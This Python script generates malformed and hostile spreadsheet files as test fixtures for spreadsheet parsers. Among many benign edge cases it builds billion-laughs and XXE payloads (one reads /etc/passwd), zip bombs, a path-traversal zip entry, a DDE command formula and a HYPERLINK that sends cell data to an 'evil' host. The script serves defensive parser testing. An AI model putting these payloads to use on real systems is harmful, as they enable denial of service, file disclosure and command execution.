#!/usr/bin/env python3
"""Hostile and awkward spreadsheets and CSV files, written by hand from the format specifications; nothing is copied.

  python3 gen.py OUT [--small]     --small leaves out the five of 600 MB to 1 GiB unpacked, which take most of the time

xlwt (for .xls) and msoffcrypto-tool (for the encrypted ones) come from the Python registry; without them those files are
left out, and that is said."""
import sys, os, io, zipfile, struct
OUT = sys.argv[1]; SMALL = '--small' in sys.argv
os.makedirs(OUT, exist_ok=True)
INDEX = []
def reg(name, what): INDEX.append((name, what))
def put(name, data, what):
    if isinstance(data, str): data = data.encode()
    with open(os.path.join(OUT, name), 'wb') as f: f.write(data)
    reg(name, what)

# ---------------------------------------------------------------- xlsx
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
HDR = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
def ctypes(n, strings=True, extra=''):
    return HDR + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' + ''.join(f'<Override PartName="/xl/worksheets/sheet{i+1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(n)) + '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>' + extra + '</Types>'
RELS = HDR + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
def wbxml(names, wbpr='', states=None, extra=''):
    s = ''.join(f'<sheet name="{n}" sheetId="{i+1}" {("state="+chr(34)+states[i]+chr(34)) if states and states[i] else ""} r:id="rId{i+1}"/>' for i, n in enumerate(names))
    return HDR + f'<workbook {NS} {RNS}><workbookPr {wbpr}/><sheets>{s}</sheets>{extra}</workbook>'
def wbrels(n, targets=None):
    t = targets or [f'worksheets/sheet{i+1}.xml' for i in range(n)]
    return HDR + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + ''.join(f'<Relationship Id="rId{i+1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="{t[i]}"/>' for i in range(len(t))) + f'<Relationship Id="rId{len(t)+1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId{len(t)+2}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>'
def styles(fmts=()):
    nf = ''.join(f'<numFmt numFmtId="{164+i}" formatCode="{f}"/>' for i, f in enumerate(fmts))
    xf = '<xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="20"/><xf numFmtId="9"/>' + ''.join(f'<xf numFmtId="{164+i}" applyNumberFormat="1"/>' for i in range(len(fmts)))
    return HDR + f'<styleSheet {NS}><numFmts count="{len(fmts)}">{nf}</numFmts><fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellXfs count="{4+len(fmts)}">{xf}</cellXfs></styleSheet>'
def sst(strings, attr=None, pre=''):
    a = attr if attr is not None else f'count="{len(strings)}" uniqueCount="{len(strings)}"'
    return HDR + pre + f'<sst {NS} {a}>' + ''.join(s if s.startswith('<si') else f'<si><t xml:space="preserve">{s}</t></si>' for s in strings) + '</sst>'
def ws(rows, dim=None, pre='', post='', head=HDR):
    d = f'<dimension ref="{dim}"/>' if dim else ''
    return head + pre + f'<worksheet {NS} {RNS}>{d}<sheetData>{rows}</sheetData>{post}</worksheet>'
STR = ['Teacher', 'Hours', 'Alice Smith', 'SECRET-ROW-0?']
def xlsx(name, what, sheets=None, names=None, strings=STR, sst_xml=None, style=None, wbpr='', states=None, extra_files=(), targets=None, ct=None, wb=None, rels=None, skip=(), level=9, wbextra=''):
    if SMALL and name.startswith('x18'): return
    sheets = sheets if sheets is not None else [ws(GOODROWS)]
    names = names or [f'Sheet{i+1}' for i in range(len(sheets))]
    b = io.BytesIO()
    z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED, compresslevel=level)
    def w(n, d):
        if n in skip: return
        zi = zipfile.ZipInfo(n, (2024, 1, 1, 0, 0, 0)); zi.compress_type = zipfile.ZIP_DEFLATED
        if isinstance(d, tuple):   # streamed: (chunk, count, head, tail)
            with z.open(zi, 'w', force_zip64=True) as f:
                head, chunk, cnt, tail = d
                f.write(head.encode())
                c = chunk.encode()
                for _ in range(cnt): f.write(c)
                f.write(tail.encode())
        else: z.writestr(zi, d)
    w('[Content_Types].xml', ct or ctypes(len(sheets)))
    w('_rels/.rels', rels or RELS)
    w('xl/workbook.xml', wb or wbxml(names, wbpr, states, wbextra))
    w('xl/_rels/workbook.xml.rels', wbrels(len(sheets), targets))
    w('xl/styles.xml', style or styles())
    w('xl/sharedStrings.xml', sst_xml or sst(strings))
    for i, s in enumerate(sheets): w(f'xl/worksheets/sheet{i+1}.xml', s)
    for n, d in extra_files: w(n, d)
    z.close()
    put(name, b.getvalue(), what)
    return b.getvalue()
GOODROWS = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>19.5</v></c></row>'
H = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
good = xlsx('x00_good.xlsx', 'baseline: must read 2x2')
xlsx('x01_dim_full_grid.xlsx', 'dimension A1:XFD1048576 declared, only 4 real cells', [ws(GOODROWS, 'A1:XFD1048576')])
xlsx('x02_corners.xlsx', 'two legal cells A1 and XFD1048576 (issue #693)', [ws('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>', 'A1:XFD1048576')])
xlsx('x03_single_far_cell.xlsx', 'one cell only, at XFD1048576', [ws('<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')])
xlsx('x04_stray_space.xlsx', 'ordinary 2x2 table plus one stray " " at XFD2000', [ws(GOODROWS + '<row r="2000"><c r="XFD2000" t="inlineStr"><is><t xml:space="preserve"> </t></is></c></row>')])
xlsx('x04b_stray_tall.xlsx', 'ordinary 2x2 table plus one stray value at C1048576', [ws(GOODROWS + '<row r="1048576"><c r="C1048576"><v>0</v></c></row>')])
xlsx('x05_dim_reversed.xlsx', 'dimension ref="B2:A1"', [ws(GOODROWS, 'B2:A1')])
xlsx('x06_dim_col_overflow.xlsx', 'dimension A1:ZZZZZZZ1 (u32 overflow, issue #694)', [ws(GOODROWS, 'A1:ZZZZZZZ1')])
xlsx('x07_dim_zero_row.xlsx', 'dimension A0:B2 (PR #285)', [ws(GOODROWS, 'A0:B2')])
xlsx('x08_dim_garbage.xlsx', 'dimension ref="banana!"', [ws(GOODROWS, 'banana!')])
xlsx('x09_row_wrap.xlsx', 'row r=4294967298 with cells lacking r: row number wraps to row 2', [ws(GOODROWS + '<row r="4294967298"><c><v>111</v></c><c><v>999</v></c></row>')])
xlsx('x10_cell_wrap.xlsx', 'cell r=B4294967298 wraps on u32 and overwrites B2 (19.5 -> 999)', [ws(GOODROWS + '<row r="3"><c r="B4294967298"><v>999</v></c></row>')])
xlsx('x11_ref_lower_abs.xlsx', 'cell refs a1, $B$2', [ws('<row r="1"><c r="a1"><v>1</v></c></row><row r="2"><c r="$B$2"><v>2</v></c></row>')])
xlsx('x12_sst_oob.xlsx', 'shared string index 99 of 4', [ws(H + '<row r="2"><c r="A2" t="s"><v>99</v></c><c r="B2"><v>1</v></c></row>')])
xlsx('x13_sst_nonnumeric.xlsx', 'shared string index "abc"', [ws(H + '<row r="2"><c r="A2" t="s"><v>abc</v></c><c r="B2"><v>1</v></c></row>')])
xlsx('x14_sst_negative.xlsx', 'shared string index -1', [ws(H + '<row r="2"><c r="A2" t="s"><v>-1</v></c><c r="B2"><v>1</v></c></row>')])
xlsx('x15_sst_uniquecount.xlsx', 'sst uniqueCount=99999999999 (issue #684)', sst_xml=sst(STR, 'count="4" uniqueCount="99999999999"'))
xlsx('x15b_sst_uniquecount_max.xlsx', 'sst uniqueCount=18446744073709551615', sst_xml=sst(STR, 'count="4" uniqueCount="18446744073709551615"'))
xlsx('x16_shared_formula_si.xlsx', 'shared formula si=99999999999', [ws(H + '<row r="2"><c r="A2"><f t="shared" si="99999999999" ref="A2:A9">B2*2</f><v>39</v></c><c r="B2"><v>19.5</v></c></row>')])
xlsx('x16b_shared_formula_si_max.xlsx', 'shared formula si=18446744073709551615 (usize::MAX, +1 overflows)', [ws(H + '<row r="2"><c r="A2"><f t="shared" si="18446744073709551615" ref="A2:A9">B2*2</f><v>39</v></c><c r="B2"><v>19.5</v></c></row>')])
ents = '<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + ''.join(f'<!ENTITY lol{i} "{("&lol%d;" % (i-1))*10}">' for i in range(1, 12)) + ']>'
xlsx('x17_billion_laughs_sst.xlsx', 'billion laughs in sharedStrings', sst_xml=HDR + ents + f'<sst {NS}><si><t>&lol11;</t></si><si><t>a</t></si><si><t>b</t></si></sst>')
xlsx('x17b_billion_laughs_sheet.xlsx', 'billion laughs in the sheet, t="str"', [ws('<row r="1"><c r="A1" t="str"><v>&lol11;</v></c></row>', pre=ents)])
xlsx('x17c_xxe.xlsx', 'external entity file:///etc/passwd', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>', pre='<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')])
MB = 1 << 20
xlsx('x18_bomb_whitespace.xlsx', 'zip bomb: 1 GiB of spaces before <sheetData> (1 MiB on disk)', [(HDR + f'<worksheet {NS}>', ' ' * MB, 1024, '<sheetData>' + GOODROWS + '</sheetData></worksheet>')])
xlsx('x18b_bomb_one_string.xlsx', 'zip bomb: one 1 GiB shared string', sst_xml=(HDR + f'<sst {NS} uniqueCount="3"><si><t>', 'A' * MB, 1024, '</t></si><si><t>b</t></si><si><t>c</t></si></sst>'))
xlsx('x18c_bomb_dense_cells.xlsx', 'zip bomb: one row of 40,000,000 valued cells without r attribute (640 MB XML)', [(HDR + f'<worksheet {NS}><sheetData><row r="1">', '<c><v>1</v></c>' * 1000, 40000, '</row></sheetData></worksheet>')])
xlsx('x18d_bomb_many_si.xlsx', 'zip bomb: 30 million shared strings "a" (600 MB XML)', sst_xml=(HDR + f'<sst {NS}>', '<si><t>a</t></si>' * 1000, 30000, '</sst>'))
xlsx('x18e_bomb_comment.xlsx', 'zip bomb: 1 GiB XML comment', [(HDR + f'<worksheet {NS}><!--', 'x' * MB, 1024, '--><sheetData>' + GOODROWS + '</sheetData></worksheet>')])
xlsx('x19_formula_no_cache.xlsx', 'B2 has a formula and no cached <v> (what openpyxl writes)', [ws(H + '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><f>SUM(C2:D2)</f></c><c r="C2"><v>10</v></c></row>')])
xlsx('x19b_formula_empty_v.xlsx', 'B2 has a formula and an empty <v/>', [ws(H + '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><f>SUM(C2:D2)</f><v/></c><c r="C2"><v>10</v></c></row>')])
xlsx('x19c_formula_error.xlsx', 'the seven classic cached errors plus #GETTING_DATA', [ws(''.join(f'<row r="{i+1}"><c r="A{i+1}" t="e"><f>1</f><v>{e}</v></c></row>' for i, e in enumerate(['#REF!', '#N/A', '#DIV/0!', '#NULL!', '#NUM!', '#NAME?', '#VALUE!', '#GETTING_DATA'])))])
xlsx('x19d_error_spill.xlsx', 'cached error text #SPILL! in one cell out of a good table', [ws(GOODROWS + '<row r="3"><c r="A3" t="e"><v>#SPILL!</v></c></row>')])
xlsx('x20_merged.xlsx', 'merged A2:A4 (teacher name once for three session rows)', [ws(H + '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>1</v></c></row><row r="3"><c r="B3"><v>2</v></c></row><row r="4"><c r="B4"><v>3</v></c></row>', post='<mergeCells count="1"><mergeCell ref="A2:A4"/></mergeCells>')])
xlsx('x20b_merge_overlap_huge.xlsx', 'overlapping merges, one whole-grid, one reversed', [ws(GOODROWS, post='<mergeCells count="3"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:B2"/><mergeCell ref="B2:A1"/></mergeCells>')])
xlsx('x21_date1904.xlsx', 'workbookPr date1904=1, serial 43831 with date format', [ws('<row r="1"><c r="A1" s="1"><v>43831</v></c></row>')], wbpr='date1904="1"')
xlsx('x21b_date1900.xlsx', 'same serial, 1900 system', [ws('<row r="1"><c r="A1" s="1"><v>43831</v></c></row>')])
put('x22_truncated_half.xlsx', good[:len(good)//2], 'zip cut in half')
put('x22b_zero_byte.xlsx', b'', 'zero-byte file (OneDrive placeholder / failed download)')
put('x22c_no_eocd.xlsx', good[:-30], 'end of central directory damaged')
put('x22d_trailing_garbage.xlsx', good + b'\0' * 70000, '70 kB of NULs after the zip')
bad = bytearray(good); i = bad.find(b'xl/worksheets/sheet1.xml') + 40; bad[i:i+20] = bytes(20); put('x22e_bitrot.xlsx', bytes(bad), '20 bytes inside the deflated sheet zeroed (CRC mismatch)')
xlsx('x24_sheet_xml_truncated.xlsx', 'sheet XML ends inside row 2', [ws(GOODROWS)[:-60]])
xlsx('x24b_no_close_after_data.xlsx', 'sheet XML ends directly after </sheetData> (worksheet never closed)', [ws(GOODROWS).replace('</worksheet>', '')])
xlsx('x25_mismatched_tags.xlsx', 'end tags do not match (</rov>)', [ws('<row r="1"><c r="A1"><v>1</v></c></rov><row r="2"><c r="A2"><v>2</v></c></row>')])
xlsx('x26_sheet_part_missing.xlsx', 'workbook lists a sheet whose part is not in the zip', [ws(GOODROWS), ws(GOODROWS)], skip=('xl/worksheets/sheet2.xml',))
xlsx('x26b_dup_sheet_names.xlsx', 'two sheets both called "Timetable" (2nd has 999)', [ws(GOODROWS), ws(GOODROWS.replace('19.5', '999'))], names=['Timetable', 'Timetable'])
xlsx('x26e_chartsheet.xlsx', 'sheet part is a <chartsheet>', [ws(GOODROWS), HDR + f'<chartsheet {NS}/>'])
xlsx('x26f_no_sheets.xlsx', 'workbook with zero sheets', [])
xlsx('x26g_case_sheet_names.xlsx', 'sheets "Week 1" and "week 1 " ', [ws(GOODROWS), ws(GOODROWS.replace('19.5', '999'))], names=['Week 1', 'week 1 '])
xlsx('x26h_one_bad_sheet.xlsx', 'sheet 2 of 3 is damaged', [ws(GOODROWS), ws('<row r="1"><c r="!!"><v>1</v></c></row>'), ws(GOODROWS)])
import warnings; warnings.simplefilter('ignore')
def dup(name, what, second):
    b = io.BytesIO(good); z = zipfile.ZipFile(b, 'a', zipfile.ZIP_DEFLATED)
    z.writestr(zipfile.ZipInfo(second, (2024,1,1,0,0,0)), ws(GOODROWS.replace('19.5', '999'))); z.close(); put(name, b.getvalue(), what)
dup('x26c_dup_zip_entry.xlsx', 'two zip entries xl/worksheets/sheet1.xml (19.5, then 999)', 'xl/worksheets/sheet1.xml')
dup('x26d_case_zip_entry.xlsx', 'zip entries sheet1.xml (19.5) and SHEET1.XML (999)', 'xl/worksheets/SHEET1.XML')
xlsx('x28_bool_two.xlsx', 't="b" with value 2', [ws(GOODROWS + '<row r="3"><c r="A3" t="b"><v>2</v></c></row>')])
for k, v in dict(a_text='abc', b_nan='NaN', c_inf='Infinity', d_1e999='1e999', e_spaces=' 19.5 ', f_entity='1&#57;.5', g_comment='1<!-- x -->9.5', h_cdata='<![CDATA[19.5]]>', i_comma='19,5', j_plus='+19.5', k_hex='0x13', l_dot='19.', m_und='1_9', n_neg0='-0', o_empty='').items():
    xlsx(f'x29{k}.xlsx', f'untyped numeric cell <v>{v}</v>', [ws(H + f'<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>{v}</v></c></row>')])
    xlsx(f'x29{k}_n.xlsx', f't="n" numeric cell <v>{v}</v>', [ws(H + f'<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="n"><v>{v}</v></c></row>')])
xlsx('x30_ctrl_ref.xlsx', 'character references &#1; &#xFFFF; in text', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>a&#1;b&#xFFFF;c</t></is></c></row>')])
xlsx('x30b_nul_ref.xlsx', 'character reference &#0;', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>a&#0;b</t></is></c></row>')])
xlsx('x30c_raw_ctrl.xlsx', 'raw 0x00 0x01 0x1b bytes in text', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>a\x00b\x01c\x1b[31md</t></is></c></row>')])
xlsx('x30d_xesc.xlsx', '_x0000_ _x001B_ _xD800_ escapes', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>a_x0000_b_x001B_c_xD800_d_x000D__x000A_e</t></is></c></row>')])
xlsx('x30e_bad_utf8.xlsx', 'invalid UTF-8 bytes in sheet XML', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>@@</t></is></c></row>').encode().replace(b'@@', b'a\xff\xfeb\xc3')])
xlsx('x31_utf16.xlsx', 'sheet XML in UTF-16LE with BOM', [b'\xff\xfe' + ws(GOODROWS, head='<?xml version="1.0" encoding="UTF-16"?>').encode('utf-16-le')])
xlsx('x31b_latin1.xlsx', 'sheet XML declares ISO-8859-1', [ws('<row r="1"><c r="A1" t="inlineStr"><is><t>Zo\xeb</t></is></c></row>', head='<?xml version="1.0" encoding="ISO-8859-1"?>').encode('latin-1')])
xlsx('x32_deep_nesting.xlsx', '5 million nested elements inside a cell', [(HDR + f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is>', '<z>' * 1000, 5000, '</is></c></row></sheetData></worksheet>')])
xlsx('x33_many_attrs.xlsx', '2 million attributes on one <c> (quadratic duplicate check?)', [(HDR + f'<worksheet {NS}><sheetData><row r="1"><c ', ''.join(f'a{i}="" ' for i in range(1000)), 2000, ' r="A1"><v>1</v></c></row></sheetData></worksheet>')])
xlsx('x34_many_sheets.xlsx', '20,000 sheets (metadata only; one part)', [ws(GOODROWS)], wb=wbxml([f'S{i}' for i in range(20000)]).replace('rId', 'rId1" x="'), names=['Sheet1'])
FM = ['0.0&quot;h&quot;', '0.0\\h', '0.0 h', '[h]:mm', 'General&quot; hrs&quot;', '[Red]0.0', '0.0&quot; days&quot;', 'hh:mm', '#,##0.00_ ;[Red]\\-#,##0.00\\ ', '0%', '[$-809]dd mmmm yyyy;@', '[$£-809]#,##0.00', '0.0_d', '0;;;@', '[&lt;1]h:mm;0', 'dd/mm/yyyy', '[mm]:ss', '0.00E+00', 'Standard', '&quot;Day &quot;0']
xlsx('x35_formats.xlsx', 'value 1.5 under 20 number formats (which become DateTime?)', [ws(''.join(f'<row r="{i+1}"><c r="A{i+1}" s="{i+4}"><v>1.5</v></c></row>' for i in range(len(FM))))], style=styles(FM))
xlsx('x35b_style_oob.xlsx', 'cell style index 999 (not in styles.xml)', [ws('<row r="1"><c r="A1" s="999"><v>45000</v></c></row>')])
SER = ['0', '0.5', '1', '59', '60', '61', '-1', '2958465', '2958466', '1e308', '0.999999999', '0.395833333333333', '45000.9999999999', '-1e308', 'NaN']
xlsx('x36_serials.xlsx', 'edge date serials under a date format', [ws(''.join(f'<row r="{i+1}"><c r="A{i+1}" s="1"><v>{s}</v></c></row>' for i, s in enumerate(SER)))])
xlsx('x37_rich_phonetic.xlsx', 'rich text runs and phonetic text', strings=['<si><r><t>Ali</t></r><r><t>ce</t></r><rPh sb="0" eb="1"><t>PHON</t></rPh></si>', '<si/>', '<si><t/></si>', 'fourth'], sheets=[ws('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>')])
xlsx('x38_hidden.xlsx', 'hidden and veryHidden sheets, hidden row and column', [ws(GOODROWS), ws(GOODROWS.replace('19.5', '1')), ws(GOODROWS.replace('<row r="2">', '<row r="2" hidden="1">').replace('19.5', '2'))], states=['', 'veryHidden', 'hidden'])
xlsx('x40_macro_garbage.xlsm', 'xlsm with garbage vbaProject.bin', extra_files=[('xl/vbaProject.bin', b'\xd0\xcf\x11\xe0' + b'\x41' * 1996)])
put('x41_csv_named.xlsx', 'Teacher,Hours\nAlice,19.5\n', 'a CSV named .xlsx')
put('x41b_html_named.xls', '<html><table><tr><td>Teacher</td><td>Hours</td></tr><tr><td>Alice</td><td>19.5</td></tr></table></html>', 'HTML table named .xls (many MIS exports)')
put('x41c_spreadsheetml2003.xls', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>1</Data></Cell></Row></Table></Worksheet></Workbook>', 'SpreadsheetML 2003 named .xls')
put('x41d_xlsx_named.xls', good, 'an xlsx named .xls')
put('x41e_lockfile_~$x.xlsx', b'\x05Alice' + b' ' * 159, 'Excel owner/lock file')
xlsx('x42_unicode_headers.xlsx', 'BOM, NBSP, zero-width space, Cyrillic homoglyph in headers, RTL override in a name', strings=['\ufeffTeacher', 'Ho\u200burs', 'T\u0435acher', 'Hours\u00a0', 'Alice\u202egnp.exe'], sheets=[ws('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row><row r="2"><c r="A2" t="s"><v>4</v></c></row>')])
xlsx('x43_long_cell.xlsx', 'cell text of 40,000 characters (Excel limit 32,767)', strings=['Teacher', 'Hours', 'x' * 40000])
xlsx('x44_dup_cells.xlsx', 'B2 given twice (19.5 then 999)', [ws(GOODROWS + '<row r="2"><c r="B2"><v>999</v></c></row>')])
xlsx('x45_no_refs.xlsx', 'rows/cells without r attributes', [ws('<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row><row><c t="s"><v>2</v></c><c><v>19.5</v></c></row>')])
xlsx('x46_many_entries.xlsx', 'zip with 20,000 extra entries', extra_files=[(f'x/{i}', b'') for i in range(20000)])
xlsx('x47_traversal_entry.xlsx', 'zip entry ../../../../tmp/evil', extra_files=[('../../../../tmp/evil', b'evil')])
xlsx('x48_dde.xlsx', 'DDE / HYPERLINK formula with cached text', [ws("<row r=\"1\"><c r=\"A1\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>=cmd|'/C calc'!A0</v></c><c r=\"B1\" t=\"str\"><f>HYPERLINK(\"http://evil/?\"&amp;A2,\"click\")</f><v>click</v></c></row>")])
xlsx('x49_numbers.xlsx', 'long digits, float noise, percent text', [ws('<row r="1"><c r="A1"><v>1234567890123456789</v></c><c r="B1"><v>0.30000000000000004</v></c><c r="C1" t="inlineStr"><is><t>10%</t></is></c><c r="D1" t="inlineStr"><is><t>0012345</t></is></c><c r="E1" s="3"><v>0.1</v></c></row>')])
xlsx('x50_unknown_child.xlsx', 'extLst element inside a cell after <v> (allowed by schema)', [ws('<row r="1"><c r="A1"><v>19.5</v><extLst><ext uri="x"/></extLst></c></row>')])
xlsx('x51_iso_date.xlsx', 't="d" ISO date cells, good and bad', [ws('<row r="1"><c r="A1" t="d"><v>2025-09-01T09:00:00</v></c><c r="B1" t="d"><v>banana</v></c></row>')])
# lying zip sizes: central directory says 10 bytes uncompressed
g = bytearray(xlsx('x52_lying_size.xlsx', 'zip directory and local header claim sheet1.xml is 10 bytes uncompressed'))
off = 0
while True:
    off = g.find(b'PK\x01\x02', off)
    if off < 0: break
    nl = struct.unpack_from('<H', g, off + 28)[0]
    if g[off+46:off+46+nl] == b'xl/worksheets/sheet1.xml':
        struct.pack_into('<I', g, off + 24, 10)
        lo = struct.unpack_from('<I', g, off + 42)[0]; struct.pack_into('<I', g, lo + 22, 10)
    off += 4
put('x52_lying_size.xlsx', bytes(g), 'zip directory and local header claim sheet1.xml is 10 bytes uncompressed'); INDEX.pop()
# zip64 / overlapping entries (Fifield-like): many central entries -> same local data
def overlap():
    b = io.BytesIO(); z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED); 
    for n, d in [('[Content_Types].xml', ctypes(1)), ('_rels/.rels', RELS), ('xl/workbook.xml', wbxml(['S'])), ('xl/_rels/workbook.xml.rels', wbrels(1)), ('xl/styles.xml', styles()), ('xl/sharedStrings.xml', sst(STR)), ('xl/worksheets/sheet1.xml', ws(GOODROWS))]:
        z.writestr(zipfile.ZipInfo(n, (2024,1,1,0,0,0)), d)
    z.close(); d = bytearray(b.getvalue())
    eocd = d.rfind(b'PK\x05\x06'); cdo = struct.unpack_from('<I', d, eocd+16)[0]
    cd = d[cdo:eocd]; last = cd.rfind(b'PK\x01\x02'); ent = bytes(cd[last:])
    n = 2000; cd2 = bytes(cd) + b''.join(ent.replace(b'sheet1.xml', b'sh%04d.xml' % i) for i in range(n))
    cnt = struct.unpack_from('<H', d, eocd+10)[0] + n
    e = bytearray(d[eocd:]); struct.pack_into('<HHII', e, 8, cnt, cnt, len(cd2), cdo)
    put('x53_overlapping_entries.xlsx', bytes(d[:cdo]) + cd2 + bytes(e), '2,000 directory entries overlap one local file (quoted-overlap bomb shape)')
overlap()
# encrypted entry flag
g = bytearray(good); o = g.find(b'PK\x01\x02')
while o >= 0:
    struct.pack_into('<H', g, o+8, struct.unpack_from('<H', g, o+8)[0] | 1); lo = struct.unpack_from('<I', g, o+42)[0]; struct.pack_into('<H', g, lo+6, 1); o = g.find(b'PK\x01\x02', o+4)
put('x54_zipcrypto_flag.xlsx', bytes(g), 'zip entries flagged as password-encrypted')
try:
    import msoffcrypto.format.ooxml as mo
    b = io.BytesIO(); mo.OOXMLFile(io.BytesIO(good)).encrypt('Passw0rd', b); put('x23_encrypted.xlsx', b.getvalue(), 'password-protected xlsx (ECMA-376 agile encryption)')
    put('x23b_encrypted_named.xls', b.getvalue(), 'password-protected xlsx named .xls'); put('x23c_encrypted_named.xlsb', b.getvalue(), 'password-protected xlsx named .xlsb')
except Exception as e: print('skip encrypted', e)

# ---------------------------------------------------------------- ods
ONS = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
def ods(name, what, body, manifest=None, raw=None):
    c = raw if raw is not None else HDR + f'<office:document-content {ONS}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>'
    b = io.BytesIO(); z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED, compresslevel=9)
    z.writestr(zipfile.ZipInfo('mimetype', (2024,1,1,0,0,0)), 'application/vnd.oasis.opendocument.spreadsheet')
    z.writestr(zipfile.ZipInfo('META-INF/manifest.xml', (2024,1,1,0,0,0)), manifest or HDR + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
    zi = zipfile.ZipInfo('content.xml', (2024,1,1,0,0,0)); zi.compress_type = zipfile.ZIP_DEFLATED
    if isinstance(c, tuple):
        with z.open(zi, 'w', force_zip64=True) as f:
            h, k, n, t = c; f.write(h.encode()); kk = k.encode()
            for _ in range(n): f.write(kk)
            f.write(t.encode())
    else: z.writestr(zi, c, compresslevel=9)
    z.close(); put(name, b.getvalue(), what)
def oc(s): return f'<table:table-cell office:value-type="string"><text:p>{s}</text:p></table:table-cell>'
def of(v): return f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p></table:table-cell>'
OG = f'<table:table table:name="S1"><table:table-row>{oc("Teacher")}{oc("Hours")}</table:table-row><table:table-row>{oc("Alice")}{of(19.5)}</table:table-row></table:table>'
ods('o00_good.ods', 'baseline ods', OG)
OH = HDR + f'<office:document-content {ONS}><office:body><office:spreadsheet>'
ods('o01_truncated_in_table.ods', 'content.xml ends inside <table:table> between rows', None, raw=OH + f'<table:table table:name="S1"><table:table-row>{oc("a")}</table:table-row>')
ods('o01b_truncated_in_row.ods', 'content.xml ends inside a row', None, raw=OH + f'<table:table table:name="S1"><table:table-row>{oc("a")}')
ods('o01c_unclosed_annotation.ods', 'content.xml ends inside <office:annotation> in a string cell', None, raw=OH + '<table:table table:name="S1"><table:table-row><table:table-cell office:value-type="string"><office:annotation><text:p>x')
ods('o02_repeat_full_grid.ods', 'one value repeated 16384 columns x 1048576 rows', f'<table:table table:name="S1"><table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/></table:table-row></table:table>')
ods('o03_repeat_under_cap.ods', 'one value repeated 16384 columns x 6103 rows = 99,991,552 cells (just under calamine MAX_CELLS)', f'<table:table table:name="S1"><table:table-row table:number-rows-repeated="6103"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/></table:table-row></table:table>')
ods('o04_row_flood.ods', '50,000 row elements each one value repeated 16384 columns = 819 M cells before any cap', None, raw=(OH + '<table:table table:name="S1">', '<table:table-row><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/></table:table-row>', 50000, '</table:table></office:spreadsheet></office:body></office:document-content>'))
